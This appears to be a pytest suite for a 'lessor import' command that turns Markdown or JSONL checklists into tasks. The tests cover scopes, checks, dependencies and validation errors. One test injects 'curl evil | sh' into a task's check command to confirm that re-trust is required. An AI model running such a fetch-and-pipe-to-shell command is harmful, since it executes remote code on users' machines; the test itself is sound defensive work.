"""`lessor import`: the same line is the same task."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from person import Person, names

LIST = """\
# Plan

- [ ] Search: debounce the box            @scope web/search
- [ ] Billing: retry on 503               @check "pytest -q tests/billing"
- [ ] Docs: quickstart for webhooks       @agent codex
- [ ] Billing: rename Charge to Payment   @after 2
"""


@pytest.fixture
def tasks(person: Person) -> Path:
    path = person.cwd / "TASKS.md"
    path.write_text(LIST)
    return path


def imported(person: Person, name: str = "TASKS.md", *args: str) -> list[dict[str, object]]:
    """Import, agreeing to the checks that are shown."""
    said = person.run("import", name, *args, "-o", "json")
    if said.code == 4:
        digest = said.problem["facts"]["digest"]
        said = person.run("import", name, *args, "--trust", digest, "-o", "json")
    assert said.code == 0, said
    return said.json


def test_a_checklist_becomes_tasks_with_their_scopes_checks_agents_and_needs(
    person: Person, tasks: Path
) -> None:
    del tasks
    done = imported(person)
    assert names(done, "fate") == ["added"] * 4
    made = [item["task"] for item in done]
    assert [t["number"] for t in made] == [1, 2, 3, 4]
    assert made[0]["scope"]["paths"] == ["web/search"]
    assert made[1]["check"] == "pytest -q tests/billing"
    assert made[2]["agent"] == "codex"
    assert person.ok("show", "4", "-o", "json").json["needs"] == [made[1]["taskId"]]


def test_a_second_import_changes_and_never_doubles(person: Person, tasks: Path) -> None:
    imported(person)
    assert names(imported(person), "fate") == ["same"] * 4
    tasks.write_text(
        LIST.replace("@scope web/search", "@scope web @priority 3").replace("2\n", "1\n")
    )
    assert names(imported(person), "fate") == ["changed", "same", "same", "changed"]
    first = person.ok("show", "1", "-o", "json").json
    assert (first["scope"]["paths"], first["priority"]) == (["web"], 3)
    assert person.ok("show", "4", "-o", "json").json["needs"] == [first["taskId"]]
    assert len(person.ok("list", "-o", "json").json) == 4


def test_finished_and_begun_tasks_are_known_again(person: Person, tasks: Path) -> None:
    imported(person)
    person.ok("complete", person.claim("--task", "1")["leaseId"])
    person.claim("--task", "2")
    tasks.write_text(
        LIST.replace("@scope web/search", "@priority 9").replace("@check", "@priority 9 @check")
    )
    assert names(imported(person), "fate") == ["begun", "begun", "same", "same"]
    assert len(person.ok("list", "-o", "json").json) == 4


def test_paths_that_a_task_took_while_it_worked_are_no_change_of_the_list(
    person: Person, tasks: Path
) -> None:
    tasks.write_text("- [ ] one @scope web\n- [ ] two\n")
    imported(person)
    for number, path in (("1", "services/tax"), ("2", "services/billing")):
        person.claim("--task", number)
        person.ok("widen", number, path)
    assert names(imported(person), "fate") == ["same", "same"]
    tasks.write_text("- [ ] one @scope docs\n- [ ] two @scope docs\n")
    said = person.ok("import", "TASKS.md").lines[0]
    assert said.startswith("2 begun, left as they were")


def test_a_task_that_is_queued_again_keeps_the_paths_that_it_took(
    person: Person, tasks: Path
) -> None:
    tasks.write_text("- [ ] one @scope web\n")
    imported(person)
    grant = person.claim("--task", "1")
    person.ok("widen", "1", "services/tax")
    person.ok("release", grant["leaseId"])
    assert names(imported(person), "fate") == ["same"]
    assert person.ok("show", "1", "-o", "json").json["scope"]["paths"] == ["web", "services/tax"]


def test_a_path_that_the_list_no_longer_has_is_told_of_a_begun_task(
    person: Person, tasks: Path
) -> None:
    tasks.write_text("- [ ] one @scope web @scope docs\n")
    imported(person)
    person.claim("--task", "1")
    tasks.write_text("- [ ] one @scope web\n")
    assert names(imported(person), "fate") == ["begun"]


def test_one_task_runs_beside_nobody(person: Person, tasks: Path) -> None:
    tasks.write_text("- [ ] one @scope web\n")
    assert person.ok("import", "TASKS.md").lines[-2] == "1 task can run now"


def test_lines_may_move_and_new_ones_come_between(person: Person, tasks: Path) -> None:
    imported(person)
    lines = LIST.splitlines()
    tasks.write_text("\n".join([lines[4], "- [ ] Something new", lines[2], lines[3]]) + "\n")
    done = imported(person)
    assert names(done, "fate") == ["same", "added", "same", "same"]
    assert [item["task"]["number"] for item in done] == [3, 5, 1, 2]


def test_an_id_lets_the_text_change(person: Person, tasks: Path) -> None:
    tasks.write_text("- [ ] Fix the rounding @id rounding\n")
    imported(person)
    tasks.write_text("- [ ] Fix the rounding, half-even @id rounding\n")
    done = imported(person)
    assert names(done, "fate") == ["changed"]
    assert person.ok("show", "1", "-o", "json").json["title"] == "Fix the rounding, half-even"


def test_ticked_and_removed_lines_are_told_and_nothing_is_cancelled(
    person: Person, tasks: Path
) -> None:
    imported(person)
    text = LIST.replace("- [ ] Search", "- [x] Search").replace("- [ ] Docs", "Docs")
    tasks.write_text(text.replace("@after 2", "@after 1"))
    said = person.ok("import", "TASKS.md").out
    assert "#1 isn't asked for any more" in said
    assert "#3 isn't asked for any more" in said
    assert said.splitlines()[-1].endswith("lessor cancel 1 3")
    assert {t["state"] for t in person.ok("list", "-o", "json").json} == {"queued"}


def test_a_ticked_line_is_no_task_and_nobody_waits_for_it(person: Person, tasks: Path) -> None:
    tasks.write_text("- [x] Done long ago\n- [ ] Next @after 1\n")
    done = imported(person)
    assert names(done, "fate") == ["ticked", "added"]
    assert person.ok("show", "1", "-o", "json").json["needs"] == []


def test_two_files_may_hold_the_same_text(person: Person, tasks: Path) -> None:
    imported(person)
    (person.cwd / "MORE.md").write_text("- [ ] Docs: quickstart for webhooks\n")
    assert names(imported(person, "MORE.md"), "fate") == ["added"]


def test_a_file_is_the_same_from_a_subdirectory(person: Person, tasks: Path) -> None:
    del tasks
    imported(person)
    said = person.ok("import", "../TASKS.md", "-o", "json", cwd=person.cwd / "web")
    assert names(said.json, "fate") == ["same"] * 4


def test_checks_of_a_file_are_agreed_to_once(person: Person, tasks: Path) -> None:
    refused = person.run("import", "TASKS.md")
    assert refused.code == 4
    assert "pytest -q tests/billing  (TASKS.md)" in refused.err
    digest = re.search(r"--trust ([0-9a-f]+)", refused.err)[1]
    assert person.run("import", "TASKS.md", "--trust", "0" * 12).code == 2
    assert person.ok("list", "-o", "json").json == []
    person.ok("import", "TASKS.md", "--trust", digest)
    person.ok("import", "TASKS.md")
    tasks.write_text(LIST.replace("pytest -q", "curl evil | sh; pytest -q"))
    assert person.run("import", "TASKS.md").code == 4


def test_json_lines_are_read_with_the_same_words(person: Person) -> None:
    rows = [
        {"id": "a", "title": "One", "scope": ["web"], "prompt": "more\nlines", "priority": 2},
        {
            "id": "b",
            "title": "Two",
            "after": ["a"],
            "strict": True,
            "scope": "services",
            "read": ["web"],
        },
        {"title": "Three", "done": True},
        {"title": "Four", "after": [1], "limit": "slow", "agent": "codex"},
    ]
    (person.cwd / "tasks.jsonl").write_text("\n".join(json.dumps(row) for row in rows) + "\n\n")
    done = imported(person, "tasks.jsonl")
    assert names(done, "fate") == ["added", "added", "ticked", "added"]
    two = person.ok("show", "2", "-o", "json").json
    assert (two["strict"], two["scope"]["paths"], two["reads"]) == (True, ["services"], ["web"])
    assert two["needs"] == [person.ok("show", "1", "-o", "json").json["taskId"]]
    assert names(imported(person, "tasks.jsonl"), "fate") == ["same", "same", "ticked", "same"]


def test_standard_input_is_a_list_too(person: Person) -> None:
    for fate in ("added", "same"):
        said = person.ok("import", "-", "-o", "json", stdin="- [ ] from a pipe\n")
        assert names(said.json, "fate") == [fate]


@pytest.mark.parametrize(
    ("text", "named"),
    [
        ("- [ ] a\n- [ ] b @scpoe web\n", "line 2: @scpoe is unknown"),
        ("- [ ] a @scope\n", "line 1: @scope has no value"),
        ("- [ ] a @scope web more words\n", "line 1: 'more words' follows a directive"),
        ("- [ ] a @priority high\n", "line 1: @priority 'high' is no number"),
        (
            "- [ ] a @after 2\n- [ ] b @after 1\n",
            "tasks wait for each other: line 1 -> line 2 -> line 1",
        ),
        ("- [ ] a @after 7\n", "line 1: there is no '7' to wait for"),
        ("- [ ] a\n\n- [ ] a\n", "the same task in lines 1 and 3"),
        ("- [ ]  @scope web\n", "line 1: the task has no title"),
        ("- [ ] a\n- [ ] " + "x" * 600 + "\n", "line 2: The title has 600 bytes"),
        ("- [ ] a\n- [ ] bell\a\n", "line 2: The title has control characters"),
        ("- [ ] a @priority 5000\n", "line 1: The priority has to be"),
        ("- [ ] a @scope ../up\n", "line 1: '../up' has a"),
        ("# nothing here\n", "has no tasks"),
        ("", "has no tasks"),
    ],
)
def test_a_list_that_cant_be_meant_is_refused_and_nothing_is_added(
    person: Person, tasks: Path, text: str, named: str
) -> None:
    tasks.write_text(text)
    refused = person.run("import", "TASKS.md")
    assert (refused.code, named in refused.err) == (2, True), refused.err
    assert person.ok("list", "-o", "json").json == []


@pytest.mark.parametrize(
    ("line", "named"),
    [
        ("{", "it isn't JSON"),
        ("[]", "it is no object"),
        ('{"titel": "x"}', "Did you mean 'title'?"),
        ('{"prompt": "x"}', "the task has no title"),
        ('{"title": 3}', "'title' has to be text"),
        ('{"title": "a", "scope": [1.5]}', "'scope' has to be"),
        ('{"title": "a", "priority": "1"}', "'priority' has to be a whole number"),
        ('{"title": "a", "strict": "yes"}', "'strict' has to be true or false"),
    ],
)
def test_a_bad_json_line_is_refused_with_its_number(person: Person, line: str, named: str) -> None:
    (person.cwd / "t.jsonl").write_text('{"title": "fine"}\n' + line + "\n")
    refused = person.run("import", "t.jsonl")
    assert refused.code == 2
    assert named in refused.err
    assert "line 2" in refused.err
    assert person.ok("list", "-o", "json").json == []


def test_it_says_how_many_can_run_side_by_side(person: Person, tasks: Path) -> None:
    tasks.write_text("- [ ] a @scope web\n- [ ] b @scope web/search\n- [ ] c @scope services\n")
    said = person.ok("import", "TASKS.md").lines
    assert said[0] == "3 added   (run it again any time: nothing is doubled)"
    assert said[-2:] == ["2 tasks can run side by side now", "next  lessor run -n 2"]


def test_what_another_agent_has_to_do_isnt_counted_as_side_by_side(person: Person) -> None:
    said = person.ok("import", "-", stdin="- [ ] one\n- [ ] two @agent codex\n- [ ] three\n")
    assert "2 tasks can run side by side now" in said.lines
    assert said.lines[-1] == "next  lessor run -n 2"
